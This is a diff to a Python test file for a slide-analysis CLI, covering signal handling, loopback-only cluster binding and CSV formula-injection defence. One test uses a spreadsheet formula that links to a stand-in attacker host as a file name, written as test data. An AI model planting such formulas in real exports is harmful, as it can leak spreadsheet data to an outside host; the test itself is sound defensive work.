@@ -208,11 +208,15 @@ def _ok_rows(out: Path) -> set[str]:
         return set()
 
 
-def test_ctrl_c_keeps_finished_slides_and_a_rerun_finishes_the_rest(slides, toy_model, tmp_path, capsys):
+@pytest.mark.parametrize("started_as", ["foreground", "background job"])
+def test_ctrl_c_keeps_finished_slides_and_a_rerun_finishes_the_rest(slides, toy_model, tmp_path, capsys, started_as):
     """The client's own local cluster, interrupted while two slides are held mid-analysis.
 
     The signal goes to the whole process group, as Ctrl-C in a terminal does: the workers must
-    leave the shutdown to the client (no KeyboardInterrupt tracebacks from them).
+    leave the shutdown to the client (no KeyboardInterrupt tracebacks from them). A "background job"
+    is started with SIGINT ignored, as a non-interactive shell starts ``cmd &`` (and so this test
+    suite, run that way, started the client): Python keeps an inherited SIGINT ignored, and the
+    client used to run on to the end of the held slides (issue 21).
     """
     faults = tmp_path / "faults"
     faults.mkdir()
@@ -226,6 +230,7 @@ def test_ctrl_c_keeps_finished_slides_and_a_rerun_finishes_the_rest(slides, toy_
         [sys.executable, "-m", "cellview.cli", "analyze", *map(str, slides), "--model", str(toy_model), "--out",
          str(out), "--cluster", "local:2", "-q", "--no-cache"],
         env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True,
+        preexec_fn=(lambda: signal.signal(signal.SIGINT, signal.SIG_IGN)) if started_as == "background job" else None,
     )
     try:
         _wait_for(lambda: _ok_rows(out) == {"alpha", "beta"}, "alpha and beta to finish", proc=proc)
@@ -382,3 +387,54 @@ def test_a_local_cluster_that_lost_a_worker_is_scaled_back():
     session.cluster.workers[1] = object()
     session.heal()  # whole: nothing to do
     assert session.cluster.scaled == [2]
+
+
+def test_sigterm_and_an_ignored_sigint_both_stop_a_cohort_run():
+    from cellview.cohort import stop_on_signals
+
+    previous = signal.signal(signal.SIGINT, signal.SIG_IGN)  # as inherited by a background job
+    try:
+        for sig in (signal.SIGINT, signal.SIGTERM):
+            with pytest.raises(KeyboardInterrupt), stop_on_signals() as stopped_by:
+                os.kill(os.getpid(), sig)
+                time.sleep(5)  # interrupted at once
+            assert stopped_by == [sig]
+        assert signal.getsignal(signal.SIGINT) == signal.SIG_IGN  # the handlers are given back
+    finally:
+        signal.signal(signal.SIGINT, previous)
+
+
+def test_cohort_csv_cells_cannot_become_formulas_and_json_keeps_the_names(synthetic_slide, toy_model, tmp_path,
+                                                                          capsys):
+    folder = tmp_path / "slides"
+    folder.mkdir()
+    evil = '=HYPERLINK("evil.example",@A1)'
+    for stem in (evil, "plain"):
+        shutil.copy(synthetic_slide, folder / f"{stem}.tiff")
+    out = tmp_path / "out"
+    code, _, err = _analyze(capsys, str(folder), "--model", toy_model, "--out", out, "--formats", "csv,json")
+    assert code == 0, err
+    with open(out / "cohort.csv", newline="") as fh:
+        names = sorted(r["name"] for r in csv.DictReader(fh))
+    assert names == ["'" + evil + ".tiff", "plain.tiff"]
+    assert json.loads((out / f"{evil}.json").read_text())["slide"]["name"] == evil  # the JSON keeps it exact
+
+
+def test_local_cluster_and_its_dashboard_listen_on_this_machine_only():
+    psutil = pytest.importorskip("psutil")
+    from cellview.cohort import DaskSession
+
+    me = psutil.Process()
+
+    def listening() -> set:
+        return {c.laddr for c in me.net_connections(kind="inet") if c.status == psutil.CONN_LISTEN}
+
+    others = listening()  # e.g. the session's own test cluster (conftest.dask_cluster)
+    session = DaskSession("local:1", None, 0)
+    try:
+        ours = listening() - others  # the scheduler (and dashboard) live in this process
+        assert ours and all(addr.ip in ("127.0.0.1", "::1") for addr in ours), ours
+        if session.dashboard:
+            assert "127.0.0.1" in session.dashboard
+    finally:
+        session.close()
